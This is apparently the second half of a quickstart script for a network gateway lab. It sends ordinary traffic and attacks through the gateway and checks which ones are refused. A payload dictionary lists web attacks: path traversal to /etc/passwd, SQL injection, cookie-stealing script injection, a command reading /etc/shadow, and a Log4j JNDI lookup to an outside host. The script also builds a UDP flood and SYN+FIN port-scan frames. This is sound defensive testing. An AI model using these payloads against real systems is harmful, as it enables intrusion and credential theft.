"""The second half of scripts/quickstart: ordinary traffic, attacks, and what became of them."""
import argparse
import hashlib
import os
import pathlib
import struct
import subprocess
import sys
import time

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parent))
from lab_network import (  # noqa: E402
    CLIENT_IP4, Lab, LabError, SERVER_IP4, SERVER_IP6, wait_until)

TRAFFIC = pathlib.Path(__file__).resolve().parent / "traffic.py"
DENIED_IP4 = "10.77.0.66"
SOURCE_RATE = 2000
FLOOD = 40_000
PACKS = sorted((pathlib.Path(__file__).resolve().parent.parent / "rules/packs").glob("*.yaml"))
POLICY = f"""
lists:
  deny:
    source: [{DENIED_IP4}/32]
limits:
  source:
    packets: {SOURCE_RATE}/s
    packets_burst: {SOURCE_RATE}
rules:
  files: [{", ".join(map(str, PACKS))}]
"""
# What a browser asks, what looks like an attack and is none, and attacks as they are hidden.
PAGES = ["?q=union+hall", "?q=select+a+union+of+colours", "?doc=etc/password-policy",
         "?q=rock+%26+roll%3B+fun", "?q=%3C3+you", "?next=/list%3Fpage%3D2"]
FORMS = ["name=O%27Brien&town=Cork", "comment=cut+%26+paste%2C+it+costs+%3C+5+%24"]
# nginx alone has nothing that takes a form: 405 is its own answer.
ANSWERED = ("200", "405")
# Of a rule at stage alert: told, and answered.
TOLD = "?q=select+username+from+all_users"
WEB_ATTACKS = {
    "path traversal": ["?file=../../../etc/passwd"],
    "the same, percent-encoded": ["?file=%2e%2e%2f%65tc%2fpasswd"],
    "SQL injection": ["?id=1'+UNION+ALL+SELECT+user,password+FROM+users--"],
    "SQL injection in a form": ["", "--data", "name=x%27%20or%20%271%27=%271"],
    "cross-site scripting": ["?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E"],
    "a command in a form": ["", "--data", "host=a%3B%20cat%20/etc/shadow"],
    "a look-up of Log4j in a header": ["", "-A", "${jndi:ldap://x.example/a}"],
    "a tool by its name": ["", "-A", "sqlmap/1.8#stable (https://sqlmap.org)"],
}


def python(lab, namespace, *arguments, **options):
    return lab.exec(namespace, "/usr/bin/python3", TRAFFIC, *arguments, **options).stdout.strip()


class Tables:
    """What is shown: one row a trial, ordinary ones first."""

    def __init__(self):
        self.rows, self.failures = [], 0

    def add(self, kind, trial, outcome, good):
        self.failures += 0 if good else 1
        self.rows.append((kind, trial, outcome, "ok" if good else "WRONG"))

    def show(self):
        for title, kind in (("Ordinary traffic", "ordinary"), ("Attacks", "attack")):
            print(f"\n{title}")
            rows = [row[1:] for row in self.rows if row[0] == kind]
            widths = [max(len(row[i]) for row in rows) for i in range(2)]
            for trial, outcome, verdict in rows:
                print(f"  {trial:<{widths[0]}}  {outcome:<{widths[1]}}  {verdict}")


def ordinary(lab, tables):
    for address in (SERVER_IP4, SERVER_IP6):
        received = lab.ping(address, 5)
        tables.add("ordinary", f"ping {address}", f"{received} of 5 answered", received == 5)
    page = lab.exec(lab.client, "curl", "-sf", "-m", "5", f"http://{SERVER_IP4}/", check=False)
    tables.add("ordinary", "web page", page.stdout.strip() or "no answer", page.returncode == 0)


def download(lab, tables, content):
    """Slower than the source limit: the client sends only acknowledgements."""
    target = lab.directory / "downloaded"
    done = lab.exec(lab.client, "curl", "-sf", "-m", "60", "-o", target, "--limit-rate", "20M",
                    f"http://{SERVER_IP4}/large", check=False)
    same = done.returncode == 0 and hashlib.sha256(target.read_bytes()).digest() == hashlib.sha256(
        content).digest()
    tables.add("ordinary", f"download of {len(content) >> 20} MiB",
               "arrived whole" if same else "did not arrive whole", same)


def denied_source(lab, tables):
    lab.exec(lab.client, "ip", "addr", "add", f"{DENIED_IP4}/24", "dev", "eth0")
    done = lab.exec(lab.client, "curl", "-sf", "-m", "2", "--interface", DENIED_IP4,
                    f"http://{SERVER_IP4}/", check=False)
    tables.add("attack", f"web page from denied {DENIED_IP4}",
               "no answer" if done.returncode else "answered", done.returncode != 0)


def fetch(lab, path, *options):
    return lab.exec(lab.client, "curl", "-s", "-o", "/dev/null", "-m", "2", "-w", "%{http_code}",
                    f"http://{SERVER_IP4}/{path}", *options, check=False).stdout.strip()


def web(lab, tables):
    asked = [[page] for page in PAGES] + [["", "--data", form] for form in FORMS]
    answered = sum(fetch(lab, *request) in ANSWERED for request in asked)
    tables.add("ordinary", "pages and forms with words of attacks",
               f"{answered} of {len(asked)} answered", answered == len(asked))
    for name, (path, *options) in WEB_ATTACKS.items():
        status = fetch(lab, path, *options)
        tables.add("attack", f"web: {name}",
                   "no answer" if status == "000" else f"answered with {status}", status == "000")
    status = fetch(lab, TOLD)
    is_told = tells(lab)
    tables.add("ordinary", "a query that a rule at stage alert finds",
               f"answered with {status}, {'told' if is_told else 'not told'}",
               status in ANSWERED and is_told)


def tells(lab):
    """That query has become an alert, and nothing else."""
    try:
        wait_until(lambda: any(event["sluice"]["stage"] == "alert"
                               and event["http"]["url"].endswith(TOLD)
                               for event in lab.events("alert") if "http" in event), 5, "the alert")
        return True
    except LabError:
        return False


def flood(lab, tables):
    ready = lab.directory / "counting"
    counter = subprocess.Popen(
        ["nsenter", f"--net=/run/netns/{lab.server}", "/usr/bin/python3", TRAFFIC, "udp-count",
         "5000", ready], stdout=subprocess.PIPE, text=True, stdin=subprocess.DEVNULL)
    lab.processes.append(counter)
    wait_until(ready.exists, 5, "the counting server")
    sent = int(python(lab, lab.client, "udp-send", SERVER_IP4, "5000", str(FLOOD)))
    arrived = int(counter.communicate(timeout=60)[0])
    good = 0 < arrived < sent / 2
    tables.add("attack", f"flood of {sent} datagrams, limit {SOURCE_RATE}/s",
               f"{arrived} arrived, {sent - arrived} refused", good)


def scan(lab, tables):
    """SYN+FIN probes, a flag combination that no host sends: a frame a port, from a raw socket."""
    server_mac = bytes.fromhex("02000000000b")
    frames = []
    for port in range(1, 201):
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 40, port, 0, 64, 6, 0,
                         *(bytes(map(int, a.split("."))) for a in (CLIENT_IP4, SERVER_IP4)))
        ip = ip[:10] + checksum(ip).to_bytes(2, "big") + ip[12:]
        tcp = struct.pack("!HHIIBBHHH", 40000, port, 1, 0, 0x50, 0x03, 1024, 0, 0)
        pseudo = ip[12:20] + struct.pack("!BBH", 0, 6, len(tcp))
        tcp = tcp[:16] + checksum(pseudo + tcp).to_bytes(2, "big") + tcp[18:]
        frames.append((server_mac + bytes.fromhex("02000000000a0800") + ip + tcp).hex())
    python(lab, lab.client, "frames-send", "eth0", input="\n".join(frames))
    return len(frames)


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff


def show_reasons(lab):
    reasons = lab.refused_by_reason()
    print("\nRefused, by reason")
    for reason, count in sorted(reasons.items(), key=lambda item: -item[1]):
        print(f"  {count:>8}  {reason}")
    for event in lab.events("drop")[-1:]:
        print("\nOne of the drop events:\n  "
              f"{event['timestamp']} {event.get('proto', '')} {event.get('src_ip', '')}:"
              f"{event.get('src_port', '')} -> {event.get('dest_ip', '')}:"
              f"{event.get('dest_port', '')} {event['drop']['reason']}")
    alerts = [event for event in lab.events("alert") if "http" in event]
    for stage, outcome in (("enforce", "refused"), ("alert", "told")):
        for event in [event for event in alerts if event["sluice"]["stage"] == stage][-1:]:
            print(f"\nOne of the alerts, stage {stage} ({outcome}):\n  "
                  f"{event['timestamp']} rule {event['alert']['signature_id']}, "
                  f"{event['alert']['signature']}: {event['http']['http_method']} "
                  f"{event['http']['url']}")
    return reasons


def run(lab):
    tables = Tables()
    content = os.urandom(20 << 20)
    print("3/4 wiring client -- sluiced run -- server")
    lab.serve_http({"large": content})
    lab.start_gateway(lab.configuration(extra=POLICY))
    began = time.monotonic()
    wait_until(lambda: fetch(lab, "?file=/etc/passwd") == "000" and lab.events("alert"), 120,
               "the rules to be in force")
    print(f"    the {len(PACKS)} packs of rules/packs are in force after "
          f"{time.monotonic() - began:.1f} s")
    print("4/4 sending ordinary traffic and attacks")
    ordinary(lab, tables)
    download(lab, tables, content)
    denied_source(lab, tables)
    web(lab, tables)
    flood(lab, tables)
    probes = scan(lab, tables)
    return tables, probes


def conclude(lab, tables, probes):
    try:
        wait_until(lambda: lab.refused_by_reason().get("bad_tcp_flags", 0) >= probes, 5,
                   "the statistics")
    except LabError:
        pass  # shown below as what it is
    refused = lab.refused_by_reason().get("bad_tcp_flags", 0)
    tables.add("attack", f"{probes} SYN+FIN probes", f"{refused} refused", refused == probes)
    tables.show()
    show_reasons(lab)
    if tables.failures == 0:
        print("\nOrdinary traffic passed, the attacks did not.")
    else:
        print(f"\n{tables.failures} trials did not end as they should. The gateway's log:\n"
              f"{lab.log()}")
    return 1 if tables.failures else 0


def main():
    parser = argparse.ArgumentParser(prog="scripts/quickstart", description=__doc__)
    parser.add_argument("--keep", action="store_true", help="leave the gateway up to play with")
    options = parser.parse_args()
    lab = Lab("sluice")
    try:
        lab.up()
        tables, probes = run(lab)
        status = conclude(lab, tables, probes)
        if options.keep:
            input(f"\nLeft up. Events: {lab.directory}/eve.json. In another terminal: "
                  "scripts/lab shell\nPress Enter to end it. ")
        return status
    except LabError as failure:
        print(f"quickstart: {failure}", file=sys.stderr)
        return 1
    except KeyboardInterrupt:
        return 130
    finally:
        lab.down()


if __name__ == "__main__":
    sys.exit(main())
